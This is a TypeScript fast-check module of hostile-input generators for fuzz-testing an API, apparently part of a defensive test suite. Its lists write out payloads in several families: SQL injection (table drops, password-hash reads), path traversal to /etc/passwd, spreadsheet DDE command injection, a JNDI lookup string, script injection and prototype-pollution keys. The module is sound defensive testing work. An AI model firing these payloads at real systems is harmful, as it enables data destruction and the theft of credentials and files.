import fc from 'fast-check';

/** Classic injection strings: any that reached SQL as text would break a query or read another table. */
export const SQL_INJECTION = [
  "' OR '1'='1",
  "'; DROP TABLE task; --",
  '1; SELECT pg_sleep(5)--',
  "\\'; --",
  '" OR ""="',
  "1' UNION SELECT password_hash FROM app_user--",
  '$1',
  "%' AND 1=1 --",
];
/** File names and paths that escape a directory, for file-like fields (report format, plan file name). */
export const PATH_TRAVERSAL = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%c0%af..%c0%afetc/passwd',
  'file:///etc/passwd',
  '\\\\server\\share\\x',
  'report.pdf\u0000.xlsx',
  '../../../../dist/apps/api/src/main.js',
  '.',
  '..',
];
/** Cells a spreadsheet would evaluate: formulas, DDE, and the characters that start them. */
export const FORMULAS = ['=HYPERLINK("http://x","y")', '@SUM(A1)', '+1+1', '-1+1', "=cmd|' /C calc'!A0", '\t=1', '\r=1', '=1+1'];
const ODD = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udc00',
  '😀',
  '\u202eevil',
  'Tập huấn'.normalize('NFD'),
  '%s%n%x',
  '${jndi:ldap://x/a}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'NaN',
  'Infinity',
  '-1',
  '1e400',
  '9'.repeat(400),
  'DNG',
  'QNI',
  'dvc-toan-trinh',
  '2023-10-31',
  '2023-13',
];

/** A string an attacker or a careless client might send. */
export const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SQL_INJECTION, ...PATH_TRAVERSAL, ...FORMULAS, ...ODD) },
  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.integer({ min: 200, max: 20_000 }).map((n) => 'x'.repeat(n)) },
);

/** Numbers JSON can carry (NaN and the infinities become null), and text that looks like one. */
export const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, -0, 0.1 + 0.2, 5e-324, -1),
);

/** Any JSON value, biased to the hostile. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'a', 'id'), hostileString, { maxKeys: 3 }) },
);

/** JSON text nested `depth` levels deep, as arrays, objects or both. */
export const deepJson = fc
  .tuple(fc.oneof(fc.integer({ min: 1, max: 64 }), fc.integer({ min: 65, max: 200_000 })), fc.constantFrom('array', 'object', 'mixed'))
  .map(([depth, style]) => {
    if (style === 'array') return `${'['.repeat(depth)}${']'.repeat(depth)}`;
    if (style === 'object') return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    const half = Math.ceil(depth / 2);
    return `${'[{"a":'.repeat(half)}1${'}]'.repeat(half)}`;
  });

/** A header value Node will send (visible ASCII), hostile or plausible. */
export const headerValue = fc.oneof(
  fc.stringMatching(/^[\x20-\x7e]{0,80}$/),
  fc.constantFrom(...SQL_INJECTION, ...PATH_TRAVERSAL.filter((p) => /^[\x20-\x7e]*$/.test(p))),
);

/** The text with unpaired surrogates replaced (encodeURIComponent throws on them; they are sent in bodies instead). */
export function wellFormed(text: string): string {
  return text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
}

/** Percent-encodes text for a URL; sometimes leaves a malformed escape in (`%ZZ`, a cut UTF-8 sequence). */
export const urlPart = fc.oneof(
  { weight: 5, arbitrary: hostileString.map((s) => encodeURIComponent(wellFormed(s.slice(0, 2000)))) },
  { weight: 1, arbitrary: fc.constantFrom('%ZZ', '%E0%A4%A', '%', '%00', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', '%C0%AE%C0%AE', '%FF') },
);
